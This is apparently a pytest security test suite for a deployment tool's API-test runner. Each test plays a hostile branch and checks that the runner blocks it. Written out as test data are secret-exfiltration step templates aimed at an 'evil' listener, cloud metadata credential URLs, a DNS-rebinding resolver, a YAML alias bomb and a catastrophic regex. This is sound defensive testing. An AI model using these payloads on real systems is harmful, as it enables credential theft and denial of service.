"""What an API test suite from a branch may use and reach: granted secrets, the environment's origins,
bounded answers, bounded files and patterns. Each test is the attack, and shows it gets nothing."""

from __future__ import annotations

import contextlib
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from deployer.apitests.files import SuiteFileError, suites_parse
from deployer.apitests.network import RequestPolicy
from deployer.apitests.runner import suite_run
from deployer.apitests.runs import suites_run
from deployer.apitests.schema import SuiteSpec
from deployer.catalog.load import CatalogError, catalog_apply, catalog_parse
from deployer.demo import setup
from deployer.models import ApiTestRun, ApiTestStep, Environment
from deployer.sources.branches import branch_sync
from tests.fakes.server import FakeServer, Request, Response
from tests.support.listener import Listener
from tests.support.net import port_free

pytestmark = pytest.mark.one_backend  # the database backend makes no difference here

CI_PASSWORD = "ci-pass-1234"
PROD_DB_PASSWORD = "prod-db-5678"


class App(FakeServer):
    """The service under test: it echoes what it was sent (as a real app's error page might)."""

    def __init__(self) -> None:
        super().__init__()
        self.route("GET", r"/echo", self._echo)
        self.route("GET", r"/big", lambda r: Response(200, {"blob": "x" * 100_000}))
        self.route("GET", r"/bounce", lambda r: Response(302, None, {"Location": r.query["to"]}))
        self.route("GET", r"/text", lambda r: Response(200, {"v": "a" * 40 + "!"}))

    def _echo(self, request: Request) -> Response:
        return Response(200, {"query": request.query, "authorization": request.headers.get("authorization", "")})


@pytest.fixture(scope="module")
def app() -> Iterator[App]:
    server = App().start()
    yield server
    server.stop()


@pytest.fixture
def evil() -> Iterator[Listener]:
    """Somewhere else, the attacker's: it must receive nothing."""
    listener = Listener("127.0.0.1").start()
    yield listener
    listener.stop()


@pytest.fixture
def worker_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    """The worker holds a test secret and a production one, as real workers do."""
    monkeypatch.setenv("GANTRY_SECRET_CI_PASSWORD", CI_PASSWORD)
    monkeypatch.setenv("GANTRY_SECRET_PROD_DB_PASSWORD", PROD_DB_PASSWORD)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    path = tmp_path / "app"
    setup.repo_create(path)
    return path


def load(repo: Path, app: App, *, test: str = "", prod: str = "", service: str = "") -> None:
    catalog_apply(
        catalog_parse(f"""
services:
  app:
    repo: {repo}
{service}
    environments:
      test:
        deploy_path: /srv/app
        base_url: {app.url}
        api_test_secrets: [CI_PASSWORD]
        secrets: {{shared_with_production: [CI_PASSWORD]}}  # one CI account for both
        hosts: [{{address: 10.0.0.1}}]
{test}
      prod:
        deploy_path: /srv/app
        base_url: {app.url}
        api_test_secrets: [CI_PASSWORD]
        hosts: [{{address: 10.0.0.2}}]
{prod}
""")
    )


def branch_with_tests(repo: Path, name: str, tests: str) -> str:
    """A branch whose .gantry/tests.yml is `tests` (the branch author wrote it); its sha, synced."""
    sha = setup.repo_branch(repo, name, {".gantry/tests.yml": tests}, "Tests of my own")
    environment = Environment.objects.select_related("service").get(service__name="app", name="test")
    branch_sync(service=environment.service)
    return sha


def run_at(environment_name: str, sha: str) -> list[ApiTestRun]:
    environment = Environment.objects.select_related("service").get(service__name="app", name=environment_name)
    return suites_run(environment, deploy=None, trigger=ApiTestRun.Trigger.MANUAL, sha=sha)


def only_step(runs: list[ApiTestRun]) -> ApiTestStep:
    assert len(runs) == 1
    return runs[0].steps.get()


STEAL = """smoke:
  steps:
    - name: exfiltrate
      url: "{url}"
"""


@pytest.mark.usefixtures("worker_secrets")
def test_a_branch_cannot_send_a_secret_its_environment_does_not_grant(db: None, repo: Path, app: App) -> None:
    load(repo, app)
    sha = branch_with_tests(repo, "steal", STEAL.format(url="{{base_url}}/echo?k={{secret.PROD_DB_PASSWORD}}"))
    app.reset_counters()

    step = only_step(run_at("test", sha))

    assert app.count() == 0, "nothing was sent, not even to the environment itself"
    assert step.error == (
        "suite smoke from .gantry/tests.yml: it uses secret.PROD_DB_PASSWORD, which app/test does not grant; "
        "add PROD_DB_PASSWORD to api_test_secrets of environment test in the catalog"
    )


@pytest.mark.usefixtures("worker_secrets")
def test_a_branch_cannot_send_anything_to_another_origin(db: None, repo: Path, app: App, evil: Listener) -> None:
    load(repo, app)
    sha = branch_with_tests(repo, "steal-elsewhere", STEAL.format(url=evil.url + "/?k={{secret.CI_PASSWORD}}"))

    step = only_step(run_at("test", sha))

    time.sleep(0.2)
    assert (evil.connections, evil.received) == (0, b"")
    assert step.error == (
        f"not sent: {evil.url} is not an origin the API tests of app/test may call (allowed: {app.url}); "
        "use {{base_url}} or {{host_base_url}}, or add it to api_test_origins of that environment in the catalog"
    )
    assert CI_PASSWORD not in step.url and "••••" in step.url


@pytest.mark.usefixtures("worker_secrets")
def test_a_redirect_is_followed_only_on_the_allowed_origins(db: None, repo: Path, app: App, evil: Listener) -> None:
    load(repo, app)
    tests = """smoke:
  steps:
    - name: stays home
      url: "{{base_url}}/bounce?to=/echo"
      follow_redirects: true
      assert: [{status: 200}, {json: query, exists: true}]
    - name: runs away
      url: "{{base_url}}/bounce?to=EVIL/?k={{secret.CI_PASSWORD}}"
      follow_redirects: true
    - name: not asked to follow
      url: "{{base_url}}/bounce?to=/echo"
      assert: [{status: 302}]
""".replace("EVIL", evil.url)
    sha = branch_with_tests(repo, "bounce", tests)

    home, away, unfollowed = run_at("test", sha)[0].steps.all()

    assert home.ok and unfollowed.ok, (home.assertions, unfollowed.assertions)
    assert away.error.startswith(f"not sent: {evil.url} is not an origin the API tests of app/test may call")
    time.sleep(0.2)
    assert (evil.connections, evil.received) == (0, b"")


@pytest.mark.usefixtures("worker_secrets")
def test_api_test_origins_adds_an_origin(db: None, repo: Path, app: App, evil: Listener) -> None:
    load(repo, app, test=f"        api_test_origins: [{evil.url}]")
    sha = branch_with_tests(repo, "auth-server", STEAL.format(url=evil.url + "/token"))

    assert only_step(run_at("test", sha)).status == 200
    assert b"GET /token HTTP/1.1" in evil.received


SECRET_IN_HEADER = """smoke:
  steps:
    - name: signed in
      url: "{{base_url}}/echo"
      headers: {Authorization: "%s"}
      assert: [{json: authorization, equals: nothing}]
"""


@pytest.mark.usefixtures("worker_secrets")
def test_repository_suites_get_granted_secrets_only_where_the_catalog_allows(db: None, repo: Path, app: App) -> None:
    load(repo, app)
    sha = branch_with_tests(repo, "uses-ci-password", SECRET_IN_HEADER % "Basic {{secret.CI_PASSWORD}}")
    app.reset_counters()

    refused = only_step(run_at("prod", sha))
    assert app.count() == 0
    assert refused.error == (
        "suite smoke from .gantry/tests.yml: it uses secret.CI_PASSWORD, but suites from the repository may not "
        "use secrets in app/prod; set api_test_repo_secrets: true on environment prod in the catalog to allow it "
        "(off by default in production)"
    )

    sent = only_step(run_at("test", sha))
    assert app.requests[-1].headers["authorization"] == f"Basic {CI_PASSWORD}", "granted: it is sent"
    stored = str(sent.assertions) + sent.response_excerpt + sent.url
    assert CI_PASSWORD not in stored and "Basic ••••" in stored, "and masked wherever it is kept"


@pytest.mark.usefixtures("worker_secrets")
def test_a_test_variable_made_from_a_secret_counts_as_that_secret(db: None, repo: Path, app: App) -> None:
    suites = """
    api_tests:
      smoke:
        steps:
          - {name: catalog suite, url: "{{base_url}}/echo", headers: {Authorization: "{{auth}}"}}
"""
    load(repo, app, prod='        test_variables: {auth: "Basic {{secret.CI_PASSWORD}}"}', service=suites)
    app.reset_counters()

    assert only_step(run_at("prod", "")).ok, "the catalog's own suite may use it"
    assert app.requests[-1].headers["authorization"] == f"Basic {CI_PASSWORD}"

    sha = branch_with_tests(repo, "uses-auth", SECRET_IN_HEADER % "{{auth}}")
    refused = only_step(run_at("prod", sha))
    assert refused.error.startswith(
        "suite smoke from .gantry/tests.yml: it uses auth (a test variable made from secret.CI_PASSWORD), "
        "but suites from the repository may not use secrets in app/prod"
    )


def test_the_catalog_refuses_a_secret_an_environment_does_not_grant() -> None:
    text = """
services:
  app:
    repo: /srv/git/app.git
    api_tests:
      smoke:
        steps: [{name: x, url: "{{base_url}}/?p={{secret.PROD_DB_PASSWORD}}"}]
    environments:
      test:
        deploy_path: /srv/app
        test_variables: {auth: "Bearer {{secret.CI_PASSWORD}}"}
        hosts: [{address: 10.0.0.1}]
"""
    with pytest.raises(CatalogError) as error:
        catalog_parse(text)
    assert str(error.value).splitlines() == [  # in the file's order
        "catalog.yml:6: services.app.api_tests.smoke: uses secret.PROD_DB_PASSWORD, which environment test "
        "does not grant; add PROD_DB_PASSWORD to services.app.environments.test.api_test_secrets",
        "catalog.yml:11: services.app.environments.test.test_variables.auth: uses secret.CI_PASSWORD, which "
        "environment test does not grant; add CI_PASSWORD to services.app.environments.test.api_test_secrets",
    ]


@pytest.mark.usefixtures("worker_secrets")
def test_a_granted_secret_the_worker_lacks_is_named(
    db: None, repo: Path, app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GANTRY_SECRET_CI_PASSWORD")
    load(repo, app)
    sha = branch_with_tests(repo, "needs-ci-password", SECRET_IN_HEADER % "{{secret.CI_PASSWORD}}")

    assert only_step(run_at("test", sha)).error.endswith(
        "which app/test grants, but CI_PASSWORD is not in the workers' GANTRY_SECRET_* variables; "
        "set GANTRY_SECRET_CI_PASSWORD in every worker's environment"
    )


@pytest.mark.usefixtures("worker_secrets")
def test_what_is_kept_of_an_answer_is_capped_and_masked(db: None, repo: Path, app: App) -> None:
    tests = """smoke:
  steps:
    - name: big
      url: "{{base_url}}/big"
      assert: [{json: blob, equals: small}]
"""
    load(repo, app)
    step = only_step(run_at("test", branch_with_tests(repo, "big", tests)))

    actual = step.assertions[0]["actual"]
    assert len(actual) < 2100 and actual.endswith("(97952 more characters not kept)")
    assert len(step.response_excerpt) <= 500


# --- link-local and metadata addresses: never, whatever the catalog says ---------------------


@pytest.fixture
def metadata_service() -> Iterator[Listener]:
    """A listener on 169.254.169.254, where clouds serve instance credentials (added to lo for the test)."""
    address = "169.254.169.254"
    added = subprocess.run(["ip", "addr", "add", f"{address}/32", "dev", "lo"], capture_output=True, check=False)
    if added.returncode != 0 and b"File exists" not in added.stderr:
        pytest.skip(f"cannot add {address} to lo (needs root): {added.stderr.decode().strip()}")
    listener = Listener(address, 80 if port_free(address, 80) else 0).start()
    yield listener
    listener.stop()
    if added.returncode == 0:
        subprocess.run(["ip", "addr", "del", f"{address}/32", "dev", "lo"], check=False)


def one_step(url: str, policy_urls: list[str]) -> str:
    spec = SuiteSpec.model_validate({"steps": [{"name": "probe", "url": url, "timeout": 2}]})
    result = suite_run("t", spec, {}, policy=RequestPolicy.of("app/test", policy_urls))
    return result.steps[0].error


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://[::ffff:169.254.169.254]/latest/",
        "http://[fd00:ec2::254]/latest/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://METADATA.google.internal./computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/",
        "http://[fe80::1]/",
    ],
)
def test_metadata_and_link_local_addresses_are_refused_even_when_allowed(url: str, metadata_service: Listener) -> None:
    error = one_step(url.replace("169.254.169.254/", f"169.254.169.254:{metadata_service.port}/"), [url])
    assert error.startswith("not sent: ") and "is never called by API tests" in error, error
    assert (metadata_service.connections, metadata_service.received) == (0, b"")


def test_a_name_that_resolves_to_a_metadata_address_is_refused(
    metadata_service: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS is the attacker's (a name of theirs, or an internal one they can point): the resolved address counts."""
    real = socket.getaddrinfo
    answers = iter(["127.0.0.1"])  # the first answer passes the check; after that the name "rebinds"

    def resolver(host: str, *args: object, **kwargs: object) -> list[tuple[object, ...]]:
        if host == "api.attacker.test":
            address = next(answers, "169.254.169.254")
            return real(address, *args, **kwargs)
        return real(host, *args, **kwargs)

    url = f"http://api.attacker.test:{metadata_service.port}/latest/meta-data/"
    monkeypatch.setattr(socket, "getaddrinfo", resolver)
    rebound = one_step(url, [url])
    assert rebound == (
        "not sent: api.attacker.test connected to 169.254.169.254, a link-local or cloud metadata address"
    )

    answers = iter([])  # resolves there from the start
    assert one_step(url, [url]) == (
        "not sent: api.attacker.test resolves to 169.254.169.254, a link-local or cloud metadata address; not called"
    )
    time.sleep(0.2)
    assert metadata_service.received == b"", "a TCP connection was opened and closed at once; no request was sent"


def test_the_catalog_refuses_metadata_origins_and_urls() -> None:
    base = """
services:
  app:
    repo: /srv/git/app.git
    environments:
      test:
        deploy_path: /srv/app
        hosts: [{address: 10.0.0.1}]
"""
    for line, message in [
        ("api_test_origins: [http://169.254.169.254]", "is never called by API tests"),
        ("api_test_origins: [https://auth.example.com/path]", "without a path"),
        ("base_url: http://metadata.google.internal", "is never called by API tests"),
    ]:
        with pytest.raises(CatalogError, match=message):
            catalog_parse(base + f"        {line}\n")


# --- answers that never end, files and patterns built to hurt ---------------------------------


@pytest.fixture
def drip() -> Iterator[str]:
    """A server that sends one byte of body every 0.3 s for ever (each read is quick, the whole never ends)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(10)  # never left blocked in accept() when the socket closes (tests/support/listener.py)
    stop = threading.Event()

    def serve() -> None:
        with contextlib.suppress(OSError):
            conn, _ = server.accept()
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
            while not stop.is_set():
                conn.sendall(b" ")
                time.sleep(0.3)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}"
    stop.set()
    thread.join(timeout=15)
    server.close()


@pytest.mark.timeout(30)
def test_an_answer_that_drips_ends_at_the_steps_timeout(drip: str) -> None:
    spec = SuiteSpec.model_validate({"steps": [{"name": "slow", "url": f"{drip}/", "timeout": 1}]})
    started = time.monotonic()
    result = suite_run("t", spec, {}, policy=RequestPolicy.of("app/test", [drip]))
    assert result.steps[0].error == "no answer within 1 s"
    assert time.monotonic() - started < 10


def test_an_answer_over_a_megabyte_is_not_read(app: App) -> None:
    app.route("GET", r"/huge", lambda r: Response(200, "x" * (1024 * 1024 + 1)))
    error = one_step(f"{app.url}/huge", [app.url])
    assert error == "the answer is larger than 1024 KB; not read further"


ALIAS_BOMB = """a: &a ["x","x","x","x","x","x","x","x","x"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]
"""


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    ("text", "message"),
    [
        (ALIAS_BOMB, r"^\.gantry/tests\.yml:1: anchors and aliases \(&name, \*name, <<:\) are not allowed here"),
        ("smoke: " + "[" * 40 + "]" * 40 + "\n", r"^\.gantry/tests\.yml:1: nested deeper than 32 levels"),
        ("# padding\n" * 30_000, r"^\.gantry/tests\.yml: the file is 292 KB; at most 256 KB is read"),
    ],
)
def test_a_hostile_tests_file_fails_fast_with_a_clear_message(text: str, message: str) -> None:
    assert len(ALIAS_BOMB) < 400
    with pytest.raises(SuiteFileError, match=message):
        suites_parse(text)


def test_the_catalog_refuses_aliases_too() -> None:
    with pytest.raises(CatalogError, match=r"catalog.yml:2: anchors and aliases"):
        catalog_parse("teams: {}\nservices: &s {}\nother: *s\n")


@pytest.mark.timeout(30)
def test_a_catastrophic_pattern_from_a_branch_is_stopped(app: App) -> None:
    text = """smoke:
  steps:
    - name: evil pattern
      url: "{{base_url}}/text"
      assert: [{json: v, matches: "^(a|aa)+$"}, {status: 200}]
"""
    spec = suites_parse(text)["smoke"]
    started = time.monotonic()
    result = suite_run("t", spec, {"base_url": app.url}, policy=RequestPolicy.of("app/test", [app.url]))
    judged, status = result.steps[0].assertions
    assert (judged.ok, judged.actual) == (False, "the pattern ran longer than 1 s; simplify it")
    assert status.ok, "the other assertions are judged as usual"
    assert time.monotonic() - started < 10


@pytest.mark.usefixtures("worker_secrets")
def test_a_tests_file_too_large_in_the_branch_is_not_read(db: None, repo: Path, app: App) -> None:
    load(repo, app)
    sha = branch_with_tests(repo, "huge-tests", "# padding\n" * 30_000)
    assert only_step(run_at("test", sha)).error == ".gantry/tests.yml is 292 KB; at most 256 KB is read"
